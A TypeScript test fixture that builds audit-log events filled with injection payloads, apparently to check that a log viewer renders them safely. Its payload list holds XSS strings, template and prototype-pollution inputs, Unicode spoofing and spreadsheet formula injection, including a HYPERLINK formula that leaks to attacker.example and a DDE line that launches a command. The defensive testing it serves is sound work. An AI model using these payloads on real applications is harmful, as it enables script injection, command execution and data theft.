/**
 * A hostile dataset: events whose every string field carries a payload from
 * the catalogue of things that broke log viewers before (../shared/QUALITY.md).
 * Payloads that would run set `window.__pwned`, so "no script ran" is an
 * assertion of the guard fixture.
 */
export const PAYLOADS = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=2">',
  "<svg/onload=window.__pwned=3>",
  '"><iframe src="javascript:window.__pwned=4"></iframe>',
  "javascript:window.__pwned=5",
  "JaVaScRiPt:window.__pwned=6",
  "jav&#x09;ascript:window.__pwned=7",
  "data:text/html,<script>window.__pwned=8</script>",
  '{{constructor.constructor("window.__pwned=9")()}}',
  "${window.__pwned=10}",
  "</textarea><script>window.__pwned=11</script>",
  '=HYPERLINK("http://attacker.example/?leak","click me")',
  "+1+1",
  "-1-1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nnote",
  "abc\u202Edcba.exe",
  "ad\u200Bmin",
  "\u0430dmin",
  "bad\uD800surrogate",
  "nul\u0000byte",
  "👩‍👩‍👧‍👦 family",
  "\u2066isolate\u2069 \u2067rtl\u2069",
] as const;

const big = "A".repeat(200_000);

function deep(levels: number): unknown {
  let node: Record<string, unknown> = { leaf: PAYLOADS[1] };
  for (let i = 0; i < levels; i++) node = { [`level${levels - i}`]: node };
  return node;
}

/** Builds `count` events in `region` within the last hour before `now`. */
export function hostileEvents(
  now: number,
  region = "cn-hangzhou",
  count = PAYLOADS.length,
): Record<string, unknown>[] {
  const events: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const p = PAYLOADS[i % PAYLOADS.length]!;
    const time = new Date(now - (i + 1) * 60_000)
      .toISOString()
      .replace(/\.\d{3}Z$/, "Z");
    const requestParameters: Record<string, unknown> = JSON.parse(
      `{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "Payload": ${JSON.stringify(p)}}`,
    ) as Record<string, unknown>;
    if (i === 0) requestParameters.Huge = big;
    if (i === 1) requestParameters.Deep = deep(200);
    if (i === 2)
      requestParameters.HugeArray = Array.from(
        { length: 5000 },
        (_, k) => `${p}#${k}`,
      );
    events.push({
      eventId: `hostile-${i}-${p.slice(0, 12)}`,
      eventVersion: 1,
      eventTime: time,
      eventName: p,
      eventType: "ApiCall",
      eventRW: i % 2 ? "Read" : "Write",
      eventSource: p,
      serviceName: p,
      apiVersion: p,
      acsRegion: region,
      requestId: p,
      sourceIpAddress: p,
      userAgent: p,
      userIdentity: {
        type: p,
        principalId: p,
        accountId: p,
        userName: p,
        accessKeyId: p,
      },
      requestParameters,
      responseElements: { Message: p, Url: p },
      additionalEventData: { CallbackUrl: p, LoginAccount: p },
      errorCode: i % 3 ? p : "",
      errorMessage: p,
      resourceType: p,
      resourceName: p,
      referencedResources: { [p]: [p] },
    });
  }
  return events;
}
